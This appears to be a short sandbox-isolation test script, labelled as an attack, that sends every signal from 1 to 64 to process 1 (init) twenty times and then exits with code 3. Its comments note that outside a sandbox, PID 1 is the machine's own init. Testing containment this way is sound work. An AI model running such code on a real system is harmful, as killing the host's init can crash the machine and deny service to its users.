# attack: end the sandbox's init by every signal there is
# outside: not shown: there init is the machine's
# inside: ends exited 3
import os, sys
print("tried", flush=True)
for number in range(1, 65):
    for _ in range(20):
        try:
            os.kill(1, number)
        except OSError:
            pass
sys.exit(3)
